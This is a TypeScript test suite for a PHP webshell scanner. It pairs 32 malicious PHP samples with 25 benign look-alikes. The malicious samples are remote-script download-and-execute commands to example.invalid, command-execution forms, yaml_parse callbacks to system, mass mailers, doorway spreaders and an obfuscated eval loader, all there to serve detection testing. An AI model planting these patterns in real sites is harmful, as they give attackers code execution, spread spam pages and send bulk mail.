import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createScanner } from './scanner.js';

// Session 36: the techniques of the real webshells the held-out sets H14 and H15 missed at their first scan
// (bench/redteam/README-corpus-s36.md), and the respellings red team S35B left open, written again by us as
// harmless pages, each with look-alikes an application may hold. Nothing here is copied from a sample.
const scanner = createScanner({});
const scan = (src: string, path: string) => scanner.scanBuffer(Buffer.from(src, 'utf8'), path);

const MALICIOUS: [string, string, string][] = [
  ['yaml_parse of a document the request gives, trimmed, with a tag callback of system (S35B)', '/var/www/html/a.php', `<?php\n$doc = $_POST['d'];\nyaml_parse(trim($doc), 0, $n, array('!run' => 'system'));\n`],
  ['yaml_parse with its tag callbacks kept in a variable first', '/var/www/html/b.php', `<?php\n$doc = "--- !run " . $_GET['c'];\n$cb = array('!run' => 'passthru');\nyaml_parse(trim($doc), 0, $n, $cb);\n`],
  ['a register_globals command form running the field through a ternary on its own isset (S35B)', '/var/www/html/c.php', `<form><input name="command"></form>\n<?php\nif (isset($command)) { passthru(isset($command) ? $command : 'id'); }\n`],
  ['a mass mailer sending the request\'s message, joined with a date of its own, to each address of a list the request gives', '/var/www/html/d.php', `<?php\n$to = $_POST['emails'];\n$message = stripslashes($_POST['html']);\n$list = explode("\\n", $to);\n$i = 0;\nwhile ($list[$i]) {\n  $stamp = date('d/m/Y h:i:s');\n  $rcpt = $list[$i];\n  if (mail($rcpt, $_POST['subject'], $message . $stamp, "From: " . $_POST['from'])) echo 'sent ', $i;\n  $i++;\n}\n`],
  ['a command that downloads a script and pipes it to perl', '/var/www/html/e.php', `<?php\necho md5('x');\nsystem("wget -O - example.invalid/s |perl");\n`],
  ['a command that downloads a script to /tmp and runs it with perl', '/var/www/html/f.php', `<html><body>status</body></html>\n<?php\nsystem("wget -O /tmp/b example.invalid/b; perl /tmp/b");\n?>\n`],
  ['curl piped to sh in backticks', '/var/www/html/g.php', "<?php\n$o = `curl -s http://example.invalid/i.sh | sh`;\n"],
  ['index.php written into new folders of random names with what a server named in the file sends for this host, through a writer of the file\'s own', '/var/www/html/h.php', `<?php\n$remote = "http://doorway.example.invalid";\n$host = 'http://' . $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI'];\n$page = fetch($remote . '/tpl.asp?type=index.php&host=' . urlencode($host));\n$dir = substr(md5(mt_rand()), 0, 6);\nmkdir($dir);\nsave($dir . '/index.php', $page);\nfunction fetch($u) { return file_get_contents($u); }\nfunction save($p, $d) { $f = fopen($p, 'wb'); fwrite($f, $d); fclose($f); chmod($p, 0777); }\n`],
  ['index.php opened for writing in each new folder and given what a server named in the file sends for this host', '/var/www/html/i.php', `<?php\n$srv = "http://doorway.example.invalid/";\n$c = get($srv . 'index.asp?host=' . $_SERVER['HTTP_HOST']);\nfor ($i = 0; $i < 5; $i++) { $d[$i] = 'p' . mt_rand(1000, 9999); mkdir($d[$i]); $f = fopen($d[$i] . "/index.php", "wb"); fwrite($f, $c); fclose($f); }\nfunction get($u) { $ch = curl_init($u); curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1); return curl_exec($ch); }\n`],
  ['a command kept in a variable, a download piped to perl, then run (S36A-46)', '/var/www/html/j.php', `<?php\n$c = "wget -O - example.invalid/s.txt | perl";\nsystem($c);\n`],
  ['a download piped to sh with the address quoted inside the command (S36A-47, -48)', '/var/www/html/k.php', `<?php\npassthru("curl -s \\"http://example.invalid/i.sh\\" | sh");\nsystem("wget -q -O - 'http://example.invalid/s.txt' | perl");\n`],
  ['a download piped to sh with the host joined in (S36A-50)', '/var/www/html/l.php', `<?php\n$h = 'example.invalid';\nsystem("curl -s http://" . $h . "/i.sh | /bin/sh");\n`],
  ['cd /tmp, a download, then perl of the file (S36A-57)', '/var/www/html/m.php', `<?php\nexec("cd /tmp; wget example.invalid/b.txt; perl b.txt; rm -f b.txt");\n`],
  ['a download to /tmp made executable and run as itself (S36A-58)', '/var/www/html/n.php', `<?php\nshell_exec("wget -O /tmp/.b example.invalid/b; chmod +x /tmp/.b; /tmp/.b");\n`],
  ['a register_globals command form through ?? (S36A-30)', '/var/www/html/o.php', `<form><input name="cmd"></form>\n<?php\npassthru($cmd ?? "id");\n`],
  ['a register_globals command form in a double-quoted literal (S36A-32)', '/var/www/html/p.php', `<form><input name="cmd"></form>\n<?php\nsystem("$cmd 2>&1");\n`],
  ['a register_globals command form given itself through stripslashes first (S36A-40)', '/var/www/html/q.php', `<form method="post"><input name="command"></form>\n<?php\n$command = stripslashes($command);\nsystem($command);\n`],
  ['yaml_parse with a tag callback of system set by element (S36A-24)', '/var/www/html/r.php', `<?php\n$cb = array();\n$cb['!run'] = 'system';\nyaml_parse($_POST['doc'], 0, $n, $cb);\n`],
  ['a doorway spreader writing index.php into each folder with what its server sends for this host (S36A-71)', '/var/www/html/s.php', `<?php\n$srv = "http://doorway.example.invalid/tpl/";\n$c = file_get_contents($srv . '?host=' . urlencode($_SERVER['HTTP_HOST']));\nforeach (glob($_SERVER['DOCUMENT_ROOT'] . '/*', GLOB_ONLYDIR) as $d) file_put_contents($d . '/index.php', $c);\n`],
  ['code decoding the base64 kept after its own closing tag, reversed and rot13-ed, then evaluated (held-out set H15)', '/var/www/html/t.php', `<?php\n$p = array(base64_decode("L3gvaQ=="), base64_decode(strrev(str_rot13(explode("?>", file_get_contents(__FILE__))[1]))));\npreg_replace($p[0], serialize(eval($p[1])), 'x');\nexit();\n?>\n${Buffer.from(Array.from({ length: 3000 }, (_, i) => (i * 97 + 13) % 256)).toString('base64')}\n`],
  ['a mass mailer sending through imap_mail to each address of a list the request gives (S36A-43)', '/var/www/html/u.php', `<?php\n$message = stripslashes($_POST['html']);\n$list = explode("\\n", $_POST['emails']);\nforeach ($list as $i => $rcpt) {\n  if (imap_mail($rcpt, $_POST['subject'], $message . date('r'), "From: " . $_POST['from'])) echo 'sent ', $i;\n}\n`],
  ['yaml_parse with its callbacks given by name (S36B)', '/var/www/html/v1.php', `<?php\n$cb = ["!run" => "system"];\nyaml_parse($_POST["doc"], callbacks: $cb);\n`],
  ['yaml_parse with its callbacks in a property (S36B)', '/var/www/html/v2.php', `<?php\nclass P { public $cb = ["!run" => "system"]; function go($d) { return yaml_parse($d, 0, $n, $this->cb); } }\n(new P)->go($_POST["doc"]);\n`],
  ['yaml_parse_file of the request body with tag callbacks (S36B)', '/var/www/html/v3.php', `<?php\n$cb = ["!run" => "system"];\nyaml_parse_file("php://input", 0, $n, $cb);\n`],
  ['a download piped to sh, its output sent away, in the background (S36B)', '/var/www/html/v4.php', `<?php\nsystem("wget -qO- http://example.invalid/s.txt | sh > /dev/null 2>&1 &");\n`],
  ['a download piped to perl reading its program from stdin, with arguments (S36B)', '/var/www/html/v5.php', `<?php\nsystem("wget -qO- http://example.invalid/bot.txt | perl - irc.example.invalid 6667");\n`],
  ['a download to /tmp run by perl with arguments (S36B)', '/var/www/html/v6.php', `<?php\nexec("wget -q http://example.invalid/bot.txt -O /tmp/.bot; perl /tmp/.bot irc.example.invalid 6667");\n`],
  ['cd /tmp, then a download piped to perl (S36B)', '/var/www/html/v7.php', `<?php\nsystem("cd /tmp; wget -qO- http://example.invalid/s.txt | perl");\n`],
  ['a download piped to sh in echoed backticks (S36B)', '/var/www/html/v8.php', "<?php\necho `curl -s http://example.invalid/i.sh | sh`;\n"],
  ['a doorway writing into each folder named in a double-quoted literal (S36B)', '/var/www/html/v9.php', `<?php\n$srv = "http://doorway.example.invalid/tpl/";\n$c = file_get_contents($srv . "?host=" . urlencode($_SERVER["HTTP_HOST"]));\nforeach (glob($_SERVER["DOCUMENT_ROOT"] . "/*", GLOB_ONLYDIR) as $d) file_put_contents("$d/index.php", $c);\n`],
  ['a register_globals command form keeping a history keyed by the command (S36B)', '/var/www/html/v10.php', `<form method="post"><input name="cmd"></form>\n<?php\nsession_start();\nif (isset($cmd)) { $_SESSION["hist"][$cmd] = time(); passthru($cmd); }\n`],
  ['a register_globals command form whose echoed text says "as" (S36B)', '/var/www/html/v11.php', `<form method="post"><input name="cmd"></form>\n<?php\nif (isset($cmd)) { echo "<h3>Output as text: $cmd</h3>"; system($cmd); }\n`],
];

const LOOKALIKES: [string, string, string][] = [
  ['yaml_parse with a date tag callback of the application\'s own', '/var/www/html/cfg.php', `<?php\nfunction to_date($v) { return new DateTime($v); }\n$cb = array('!date' => 'to_date');\n$cfg = yaml_parse(trim(file_get_contents(__DIR__ . '/app.yml')), 0, $n, $cb);\n`],
  ['a register_globals status page running only the commands its list has, asked by isset of the list\'s element', '/var/www/html/status.php', `<?php\n$allowed = array('uptime' => 1, 'df -h' => 1);\nif (isset($cmd) && isset($allowed[$cmd])) { echo '<pre>'; system($cmd); echo '</pre>'; }\n?>\n<form method="post"><select name="cmd"><option>uptime</option></select></form>\n`],
  ['a contact form mailing the site\'s owner the visitor\'s message with a footer of its own', '/var/www/html/contact.php', `<?php\n$footer = "\\n-- sent from the contact form";\n$msg = $_POST['message'];\nmail('owner@example.com', 'Contact: ' . $_POST['subject'], $msg . $footer, 'From: web@example.com');\n`],
  ['a backup page downloading an archive to /tmp without running it', '/var/www/html/fetchbak.php', `<?php\nsystem("wget -q -O /tmp/site.tgz https://backup.example.com/site.tgz");\necho filesize('/tmp/site.tgz');\n`],
  ['an installer piping Composer\'s installer to php as its instructions say', '/var/www/html/setup.php', `<?php\nsystem("curl -sS https://getcomposer.org/installer | php");\n`],
  ['a static page generator writing index.html from a template fetched from its own API, with the host name', '/var/www/html/gen.php', `<?php\n$api = "https://api.example.com/";\n$tpl = file_get_contents($api . 'page?host=' . urlencode($_SERVER['HTTP_HOST']));\nfile_put_contents('index.html', $tpl);\n`],
  ['a "tell a friend" page mailing the one address typed, with the visitor\'s name in the text (S36A-1)', '/var/www/html/friend.php', `<?php\n$friend = $_POST['friend_email'];\n$name = $_POST['your_name'];\nif (!preg_match('/^[^@\\s]+@[^@\\s]+$/', $friend)) die('bad');\nmail($friend, "$name recommends an article", "Hello,\\n" . $name . " thought you might like this\\n-- Example", "From: noreply@example.com");\n`],
  ['a newsletter opt-in mailing the subscriber a confirmation link (S36A-2)', '/var/www/html/optin.php', `<?php\n$email = $_POST['email'];\n$name = $_POST['name'];\n$link = 'https://news.example.com/confirm.php?t=' . bin2hex(random_bytes(16));\nmail($email, 'Please confirm', "Hi $name,\\nplease confirm:\\n" . $link, "From: news@example.com");\n`],
  ['a status page piping its search cluster\'s health to python\'s JSON tool (S36A-8)', '/var/www/html/health.php', `<?php\necho '<pre>' . htmlspecialchars(shell_exec('curl -s http://127.0.0.1:9200/_cluster/health | python3 -m json.tool')) . '</pre>';\n`],
  ['a cron feeding a downloaded CSV to the shop\'s importer on stdin (S36A-9)', '/var/www/html/import.php', `<?php\nexec('curl -sf https://feeds.example.com/products.csv | php /var/www/shop/bin/import-products.php --stdin', $out, $rc);\n`],
  ['a GeoIP update unpacking the download with the application\'s own script (S36A-11)', '/var/www/html/geo.php', `<?php\nsystem("wget -q -O /tmp/geo.tgz https://updates.example.com/geo.tgz; sh /var/www/app/scripts/unpack-geoip.sh /tmp/geo.tgz");\n`],
  ['a hosting panel installing nvm with its documented https one-liner (S36A-15)', '/var/www/html/panel.php', `<?php\nif ($_POST['action'] === 'install_node' && verify_csrf($_POST['token'])) {\n  $log = shell_exec('curl -fsSL https://raw.githubusercontent.com/nvm-sh/nvm/v0.39.7/install.sh | bash 2>&1');\n}\n`],
  ['a settings page showing an install one-liner in Markdown in a heredoc (S36A-13)', '/var/www/html/help.php', "<?php\n$help = <<<MD\nRun `curl -fsSL https://agent.example.com/install.sh | sh` on the server.\nMD;\necho $help;\n"],
  ['a single-file application\'s updater replacing its index.php with the vendor\'s release (S36A-16)', '/var/www/html/update.php', `<?php\n$update_server = "https://updates.example.com/";\n$url = $update_server . 'latest.php?domain=' . urlencode($_SERVER['HTTP_HOST']);\n$release = file_get_contents($url);\nif ($release === false || strpos($release, '<?php') !== 0) die('unreachable');\ncopy('index.php', 'index.php.bak');\nfile_put_contents('index.php', $release);\n`],
  ['a build helper mapping a "!cmd" tag of its own build.yml to shell_exec (S36A-20)', '/var/www/html/build.php', `<?php\n$callbacks = ['!env' => 'getenv', '!cmd' => 'shell_exec'];\n$build = yaml_parse_file(__DIR__ . '/../build.yml', 0, $n, $callbacks);\n`],
  ['an IRC bot whose chat commands map to methods, one named system, beside a settings file parsed without callbacks (S36A-21)', '/var/www/html/bot.php', `<?php\nclass Bot {\n  private $commands = ['!help' => 'help', '!sys' => 'system'];\n  function __construct($f) { $this->cfg = yaml_parse_file($f); }\n  function system() { return PHP_OS_FAMILY; }\n}\n`],
  ['a status page destructuring the command from its own list of tools (S36A-22)', '/var/www/html/tools.php', `<?php\n$tools = ['uptime' => ['uptime', 'Load'], 'disk' => ['df -h', 'Disk']];\n$sel = $_GET['cmd'] ?? 'uptime';\n[$cmd, $label] = $tools[$sel] ?? $tools['uptime'];\n?>\n<form><select name="cmd"><option>uptime</option></select></form>\n<pre><?php if (isset($cmd)) passthru($cmd); ?></pre>\n`],
  ['a monitor running each check of its own list, destructured in foreach (S36A-23)', '/var/www/html/monitor.php', `<?php\n$checks = ['load' => ['uptime', 'Load']];\n?>\n<form method="post"><input name="cmd"></form>\n<?php\nforeach ($checks as $key => [$command, $title]) { if (isset($command)) system($command); }\n`],
  ['a self-extracting installer reading the archive after __halt_compiler and writing its files', '/var/www/html/installer.php', `<?php\n$data = file_get_contents(__FILE__, false, null, __COMPILER_HALT_OFFSET__);\nfile_put_contents('/tmp/site.zip', base64_decode($data));\necho 'unpacked';\n__halt_compiler();\n${Buffer.from(Array.from({ length: 3000 }, (_, i) => (i * 89 + 7) % 256)).toString('base64')}`],
  ['a page showing its own source, with a base64 picture in the HTML after its closing tag', '/var/www/html/demo.php', `<?php\nif (isset($_GET['source'])) { highlight_file(__FILE__); exit; }\n$n = base64_decode('MTIz');\n?>\n<img src="data:image/png;base64,\n${Buffer.from(Array.from({ length: 3000 }, (_, i) => (i * 31 + 5) % 256)).toString('base64')}">\n`],
  ['a registration page mailing the one new user a welcome in a message of its own, after a validation loop (S36B-8)', '/var/www/html/register.php', `<?php\nforeach (['username', 'email'] as $field) { if (empty($_POST[$field])) $errors[] = $field; }\n$email = trim($_POST['email']);\n$parts = explode('@', $email);\n$user = trim($_POST['username']);\n$message = "Hello " . $user . ",\\nWelcome to Example Shop!";\nmail($email, 'Welcome to Example Shop', $message, "From: noreply@shop.example.com");\n`],
  ['an invitation page mailing up to ten friends the visitor lists, with a subject of its own (S36B-6)', '/var/www/html/invite.php', `<?php\n$name = trim(strip_tags($_POST['your_name']));\n$addresses = array_slice(explode("\\n", $_POST['emails']), 0, 10);\nforeach ($addresses as $address) {\n  if (!filter_var($address, FILTER_VALIDATE_EMAIL)) continue;\n  $body = "Hi,\\n" . $name . " invites you to join Example Gardeners.";\n  mail($address, 'An invitation to Example Gardeners', $body, 'From: noreply@gardeners.example.org');\n}\n`],
  ['a backup plugin putting a "Silence is golden" index.php into its folders (S36B-9)', '/var/www/html/backup.php', `<?php\n$api = 'https://api.backup.example.com/';\n$site = $_SERVER['HTTP_HOST'];\n$res = file_get_contents($api . 'status?site=' . urlencode($site));\nforeach (['archives', 'logs'] as $d) { $path = WP_CONTENT_DIR . '/backups/' . $d; if (!is_dir($path)) mkdir($path, 0755); file_put_contents($path . '/index.php', "<?php\\n// Silence is golden.\\n"); }\nfwrite(STDERR, $res);\n`],
  ['a panel building a Perl module downloaded over https in /tmp (S36B)', '/var/www/html/cpan.php', `<?php\n$out = shell_exec("cd /tmp && wget -q https://cpan.metacpan.org/authors/id/X/XX/Some-Module-1.0.tar.gz && tar xzf Some-Module-1.0.tar.gz && cd Some-Module-1.0 && perl Makefile.PL && make 2>&1");\n`],
  ['a status page whose closure takes a $cmd parameter, beside a select named cmd (S36B-12)', '/var/www/html/status2.php', `<?php\n$checks = ['uptime' => 'uptime', 'disk' => 'df -h'];\n$run = function (string $cmd): string { return (string) shell_exec("$cmd 2>&1"); };\n$key = isset($_GET['cmd'], $checks[$_GET['cmd']]) ? $_GET['cmd'] : 'uptime';\n?>\n<form><select name="cmd"><option>uptime</option></select></form>\n<pre><?= htmlspecialchars($run($checks[$key])) ?></pre>\n`],
];

describe('scan: the techniques of held-out sets H14 and H15 (session 36)', () => {
  for (const [name, path, src] of MALICIOUS) {
    it(`malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.equal(r.verdict, 'malicious', `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`);
    });
  }
  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 32));

  for (const [name, path, src] of LOOKALIKES) {
    it(`not malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.notEqual(r.verdict, 'malicious', `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`);
    });
  }
  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 25));
});
